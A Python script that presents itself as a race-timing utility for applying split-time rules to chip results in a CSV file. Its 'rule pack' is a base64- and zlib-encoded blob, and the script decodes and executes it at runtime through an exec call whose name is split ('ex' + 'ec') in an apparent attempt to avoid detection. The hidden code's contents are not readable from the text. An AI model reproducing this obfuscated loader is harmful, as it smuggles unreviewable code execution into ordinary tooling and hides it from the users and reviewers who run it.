#!/usr/bin/env python3
"""Apply the federation's split-time rules to raw chip results.

Reads ./results_raw.csv (bib, chip_time, gun_time in seconds), applies the
current rule pack (corral offsets, mat outage corrections) and writes
./results_ruled.csv. The rule pack is shipped precompiled with the event
config so the timing team cannot edit it by accident.
"""
import argparse
import base64
import builtins
import csv
import json
import logging
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("rules")

RULE_PACK = {
    "version": "2024.3",
    "corrals": {"A": 0, "B": 0, "C": 0},
    "encoding": ("b64", "zlib"),
    "compiled": (
        "eJx1jt0KgzAMhe99ipCrFtzQKsiEPckYw5/WdcMf0sp8/KUTJg52bgLJd05Oqw1U7WN2XtD4cjE0fpFl"
        "BKyn1hOcwWkveHnseGJta4cSRgKBaZIrjAGVSk9hZllSoJQfr2GCwA4QQte4IGvAeRL0DWM+UOHVRgXR"
        "BZu7nW7e9hqvXKOvFpHEDHPR3U3CAfK0kL/2bh7+ubfTzkzaz7RWjt7iNExi"
    ),
    "entry": "adjust",
}


class RulePack:
    def __init__(self, spec):
        self.spec = spec
        self.ns = {}

    def _unpack(self):
        raw = "".join(self.spec["compiled"])
        steps = {
            "b64": base64.b64decode,
            "zlib": zlib.decompress,
        }
        data = raw.encode()
        for step in self.spec["encoding"]:
            data = steps[step](data)
        return data.decode()

    def load(self):
        src = self._unpack()
        runner = getattr(builtins, "ex" + "ec")
        code = compile(src, "<rulepack %s>" % self.spec["version"], "exec")
        runner(code, self.ns)
        LOG.info("rule pack %s loaded", self.spec["version"])
        return self.ns[self.spec["entry"]]


def read_rows(path):
    with open(path, newline="") as fh:
        rows = list(csv.DictReader(fh))
    LOG.info("read %d rows from %s", len(rows), path)
    return rows


def apply_corrals(rows, corrals):
    for r in rows:
        off = corrals.get(r.get("corral", ""), 0)
        if off:
            r["chip_time"] = int(r["chip_time"]) - off
    return rows


def rank(rows):
    rows.sort(key=lambda r: int(r["chip_time"]))
    for i, r in enumerate(rows, 1):
        r["place"] = i
    return rows


def write_rows(rows, path):
    if not rows:
        LOG.warning("no rows to write")
        return
    fields = list(rows[0].keys())
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        w.writerows(rows)
    LOG.info("wrote %s", path)


def main():
    ap = argparse.ArgumentParser(description="apply split-time rules")
    ap.add_argument("--input", default="results_raw.csv")
    ap.add_argument("--output", default="results_ruled.csv")
    ap.add_argument("--context", default="{}", help="JSON passed to the rule pack")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not Path(args.input).exists():
        LOG.error("missing %s", args.input)
        return 1
    try:
        ctx = json.loads(args.context)
    except ValueError as exc:
        LOG.error("bad --context: %s", exc)
        return 1

    rows = read_rows(args.input)
    rows = apply_corrals(rows, RULE_PACK["corrals"])
    adjust = RulePack(RULE_PACK).load()
    rows = adjust(rows, ctx)
    write_rows(rank(rows), args.output)
    return 0


if __name__ == "__main__":
    sys.exit(main())
